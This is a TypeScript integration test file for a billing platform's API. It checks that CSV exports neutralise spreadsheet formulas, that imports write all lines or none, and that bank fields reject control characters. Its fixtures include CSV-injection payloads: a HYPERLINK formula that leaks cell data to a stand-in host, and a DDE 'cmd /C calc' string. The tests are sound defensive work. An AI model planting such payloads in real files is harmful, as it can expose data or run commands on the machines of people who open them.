// CSV files in and out through the API on real Postgres (and Temporal for invoicing): every export
// neutralises spreadsheet formulas in text someone typed and leaves numbers alone; a file import
// checks every line before it writes anything; Zengin fields refuse control characters.
// Months and years of their own: invoices 2024-09 (before any other file's engagements), payments 2041.
import { randomUUID } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { knowledgeSearchFields } from '../../src/domain/cycles/knowledge-search.ts';
import { addMonths } from '../../src/domain/months.ts';
import { createHarness, eventually, makeClient, userWithToken, type Harness } from '../helpers.ts';

type Auth = Awaited<ReturnType<typeof userWithToken>>;
let h: Harness;
let fin: Auth;
let cs: Auth;

beforeAll(async () => {
  h = await createHarness();
  fin = await userWithToken(h.db, 'finance');
  cs = await userWithToken(h.db, 'cs_manager');
});
afterAll(async () => {
  await h?.close();
});

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")';
/** Cells of a CSV answer (BOM dropped), read by a standard parser. */
const cells = (body: string): string[][] => parse(body, { bom: true });

/** An engagement that ran through `month` only (so no other file's invoicing bills it). */
async function engagementOf(clientId: number, month: string) {
  return h.db
    .insertInto('engagements')
    .values({
      client_id: clientId, cs_manager_id: cs.user.id, offer_mode: 'open', monthly_fee_yen: 100_000, start_month: month,
      status: 'ended', ended_at: `${addMonths(month, 1)}-01T00:00:00+09:00`, end_reason: 'immediately: test',
      workflow_id: `engagement-csv-test-${randomUUID()}`, created_by: cs.user.id,
    } as never)
    .returning('id')
    .executeTakeFirstOrThrow();
}

describe('exports neutralise formulas in typed text, not in numbers', () => {
  it('knowledge export (full and anonymised views)', async () => {
    const industry = `csv${randomUUID().slice(0, 8)}`;
    const client = await makeClient(h.db, `Formula ${randomUUID().slice(0, 6)}`, industry);
    const e = await engagementOf(client.id, '2024-08');
    const page = await h.db
      .insertInto('pages')
      .values({ engagement_id: e.id, url: 'https://shop.example/form', page_type: 'form', baseline_rate: 0.1, daily_visitors: 100, value_per_conversion_yen: 1000 } as never)
      .returning('id')
      .executeTakeFirstOrThrow();
    const entry = { hypothesis: HYPERLINK, change: '+cmd|" /C calc"!A0', learnings: '@SUM(1+1)', tags: ['-x'], page_type: 'form', outcome: 'loser', industry, month: '2026-04' };
    await h.db
      .insertInto('knowledge_entries')
      .values({ ...entry, ...knowledgeSearchFields(entry), test_id: null, client_id: client.id, engagement_id: e.id, page_id: page.id, lift: -0.25, ci_low: -0.5, ci_high: 0.01, status: 'final' })
      .execute();

    const full = await h.app.inject({ url: `/v1/knowledge/export.csv?industry=${industry}`, headers: cs.auth });
    expect(full.statusCode, full.body).toBe(200);
    expect(full.rawPayload.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(full.body.endsWith('\r\n')).toBe(true);
    const [head, row] = cells(full.body) as [string[], string[]];
    const col = (name: string) => row[head.indexOf(name)];
    expect(col('hypothesis')).toBe(`'${HYPERLINK}`);
    expect(col('change')).toBe(`'+cmd|" /C calc"!A0`);
    expect(col('learnings')).toBe(`'@SUM(1+1)`);
    expect(col('tags')).toBe(`'-x`);
    expect([col('lift'), col('ci_low'), col('month')]).toEqual(['-0.25', '-0.5', '2026-04']);

    const hackerId = (await h.db.insertInto('hackers').values({ display_name: `reader ${randomUUID().slice(0, 6)}`, kind: 'individual', residency: 'resident', skills: [], industries: [] }).returning('id').executeTakeFirstOrThrow()).id;
    const hacker = await userWithToken(h.db, 'hacker', { hackerId });
    const anon = await h.app.inject({ url: `/v1/knowledge/export.csv?industry=${industry}`, headers: hacker.auth });
    expect(anon.statusCode, anon.body).toBe(200);
    const [ahead, arow] = cells(anon.body) as [string[], string[]];
    expect(arow[ahead.indexOf('hypothesis')]).toMatch(/^'=HYPERLINK/);
    expect(arow[ahead.indexOf('lift')]).toBe('-0.25');
  });

  it('invoice export (recipient name, adjustment line); amounts stay numbers; the margin CSV keeps its numbers', async () => {
    const month = '2024-09';
    const c = await makeClient(h.db, `Billing ${randomUUID().slice(0, 8)}`);
    const billing = await h.app.inject({ method: 'PUT', url: `/v1/clients/${c.id}/billing`, headers: fin.auth, payload: { legal_name: HYPERLINK, payer_kana: [] } });
    expect(billing.statusCode, billing.body).toBe(200);
    const e = await engagementOf(c.id, month);
    expect((await h.app.inject({ method: 'PUT', url: `/v1/engagements/${e.id}/price-plan`, headers: cs.auth, payload: { platform_fee_yen: 100_000 } })).statusCode).toBe(200);
    expect((await h.app.inject({ method: 'POST', url: '/v1/invoicing-runs', headers: fin.auth, payload: { month } })).statusCode).toBe(202);
    const draft = await eventually(async () => (await h.app.inject({ url: `/v1/invoices?month=${month}&client_id=${c.id}`, headers: fin.auth })).json().items[0]);
    const adj = await h.app.inject({ method: 'POST', url: `/v1/invoices/${draft.id}/lines`, headers: fin.auth, payload: { description: '-4400+cmd|" /C calc"!A0', amount_yen: -4400 } });
    expect(adj.statusCode, adj.body).toBe(200);
    expect((await h.app.inject({ method: 'POST', url: `/v1/invoices/${draft.id}/issue`, headers: fin.auth })).statusCode).toBe(200);

    const csv = await h.app.inject({ url: `/v1/invoices/export?month=${month}`, headers: fin.auth });
    expect(csv.statusCode, csv.body).toBe(200);
    expect(csv.body.endsWith('\r\n')).toBe(true);
    const [head, ...rows] = cells(csv.body) as [string[], ...string[][]];
    const mine = rows.filter((r) => r[head.indexOf('client_id')] === String(c.id));
    expect(mine).toHaveLength(2);
    for (const r of mine) expect(r[head.indexOf('recipient_name')]).toBe(`'${HYPERLINK}`);
    const line = mine.find((r) => r[head.indexOf('amount_yen')] === '-4400');
    expect(line?.[head.indexOf('description')]).toBe(`'-4400+cmd|" /C calc"!A0`);
    expect(line?.[head.indexOf('invoice_subtotal_yen')]).toBe('95600');

    const margin = await h.app.inject({ url: `/v1/reports/margin?month=${month}&client_id=${c.id}&format=csv`, headers: fin.auth });
    expect(margin.statusCode, margin.body).toBe(200);
    const [mhead, mrow] = cells(margin.body) as [string[], string[]];
    expect(mrow[mhead.indexOf('billed_yen')]).toBe('100000'); // the adjustment line belongs to no engagement
    expect(mrow[mhead.indexOf('month')]).toBe(month);
  });

  it('支払調書 CSV: a payee name and address set through the API', async () => {
    const year = 2041;
    const hackerId = (await h.db.insertInto('hackers').values({ display_name: `csv ${randomUUID().slice(0, 6)}`, kind: 'individual', residency: 'resident', skills: [], industries: [] }).returning('id').executeTakeFirstOrThrow()).id;
    const put = await h.app.inject({ method: 'PUT', url: `/v1/hackers/${hackerId}/payee`, headers: fin.auth, payload: { legal_name: HYPERLINK, address: '+81 東京都千代田区' } });
    expect(put.statusCode, put.body).toBe(200);
    // A payment of the year the bank confirmed (the run itself is covered by payouts.test.ts).
    const run = await h.db
      .insertInto('payout_runs')
      .values({ month: `${year}-01`, workflow_id: `payout-csv-test-${randomUUID()}`, status: 'completed', payment_date: `${year}-01-23` } as never)
      .returning('id')
      .executeTakeFirstOrThrow();
    const item = await h.db
      .insertInto('payout_items')
      .values({ run_id: run.id, hacker_id: hackerId, status: 'confirmed', payee_type: 'resident_individual', line_count: 1, fee_total: 110_000, withholding_base: 110_000, withholding: 10_210, gross_payable: 110_000, net_transfer: 99_790 } as never)
      .returning('id')
      .executeTakeFirstOrThrow();
    // The statement is built from the item's ledger lines (their kind decides the 区分).
    const ledger = await h.db
      .insertInto('earnings_ledger')
      .values({ unique_key: `managed_retainer:${hackerId}:${randomUUID()}`, hacker_id: hackerId, engagement_id: null, cycle_id: null, offer_id: null, proposal_id: null, kind: 'managed_retainer', amount_yen: 110_000, category: 'design', month: `${year}-01`, delivered_at: new Date(`${year}-01-01T00:00:00Z`), reverses_id: null, description: 'retainer' })
      .returning('id')
      .executeTakeFirstOrThrow();
    await h.db.insertInto('payout_item_lines').values({ item_id: item.id, ledger_id: ledger.id }).execute();

    const csv = await h.app.inject({ url: `/v1/payouts/annual-records?year=${year}`, headers: fin.auth });
    expect(csv.statusCode, csv.body).toBe(200);
    const [head, ...rows] = cells(csv.body) as [string[], ...string[][]];
    const row = rows.find((r) => r[head.indexOf('hacker_id')] === String(hackerId))!;
    expect(row[head.indexOf('name')]).toBe(`'${HYPERLINK}`);
    expect(row[head.indexOf('address')]).toBe(`'+81 東京都千代田区`);
    expect([row[head.indexOf('year')], row[head.indexOf('amount_paid')], row[head.indexOf('tax_withheld')]]).toEqual([String(year), '110000', '10210']);
  });
});

describe('a file import writes all of its lines or none', () => {
  const post = (payload: string) => h.app.inject({ method: 'POST', url: '/v1/receipts/import', headers: { ...fin.auth, 'content-type': 'text/csv' }, payload });
  const stored = async (payer: string) => h.db.selectFrom('receipts').select('id').where('payer_name', '=', payer).execute();

  it('a line dated 2026-02-29 is a 400 naming its line and column, and nothing is stored; the corrected file imports', async () => {
    const payer = `ﾃｽﾄ ${Date.now()}`;
    const only = await post(`date,payer_name,amount\r\n2026-02-29,${payer},5000\r\n`);
    expect(only.statusCode, only.body).toBe(400);
    expect(only.json().error.details).toEqual([expect.objectContaining({ path: '/body/line/2/date', message: expect.stringMatching(/2026-02-29/) })]);

    const second = await post(`date,payer_name,amount\r\n2026-02-27,${payer},5000\r\n2026-02-29,${payer},6000\r\n`);
    expect(second.statusCode, second.body).toBe(400);
    expect(second.json().error.details).toEqual([expect.objectContaining({ path: '/body/line/3/date', message: expect.stringMatching(/2026-02-29/) })]);
    expect(await stored(payer)).toEqual([]);

    const fixed = await post(`date,payer_name,amount\r\n2026-02-27,${payer},5000\r\n2026-02-28,${payer},6000\r\n`);
    expect(fixed.statusCode, fixed.body).toBe(200);
    expect(fixed.json()).toMatchObject({ lines: 2, created: 2 });
    expect(fixed.json().receipts.map((r: { line: number }) => r.line)).toEqual([2, 3]);
    expect(await stored(payer)).toHaveLength(2);
  });

  it('a line the CSV reader cannot read (an unclosed quote) is a 400 naming its line', async () => {
    const res = await post('date,payer_name,amount\n2026-02-27,"ﾃｽﾄ,5000\n');
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.details[0].path).toBe('/body/line/2');
  });
});

describe('input the bank file or the export cannot take', () => {
  it('a bank holder name with control characters is a 400 naming the field', async () => {
    const hackerId = (await h.db.insertInto('hackers').values({ display_name: `crlf ${randomUUID().slice(0, 6)}`, kind: 'individual', residency: 'resident', skills: [], industries: [] }).returning('id').executeTakeFirstOrThrow()).id;
    for (const holder of ['ﾔﾏﾀﾞ\r\nﾀﾛｳ', 'ﾔﾏﾀﾞ\tﾀﾛｳ', 'ﾔﾏﾀﾞ\u0000ﾀﾛｳ']) {
      const res = await h.app.inject({ method: 'PUT', url: `/v1/hackers/${hackerId}/payee`, headers: fin.auth, payload: { bank: { bank_code: '0001', branch_code: '001', account_type: '1', account_number: '1234567', holder_name: holder } } });
      expect(res.statusCode, JSON.stringify(holder)).toBe(400);
      expect(res.json().error.details.map((d: { path: string }) => d.path)).toEqual(['/body/bank/holder_name']);
    }
  });

  it.each(['format=xml', 'format=CSV', 'format=', 'format=csv&format=xml', 'format=csv,json'])('GET /v1/invoices/export refuses %s (400 naming /querystring/format)', async (q) => {
    const res = await h.app.inject({ url: `/v1/invoices/export?month=2024-09&${q}`, headers: fin.auth });
    expect(res.statusCode, res.body).toBe(400);
    expect(res.json().error.details.map((d: { path: string }) => d.path)).toContain('/querystring/format');
  });
});
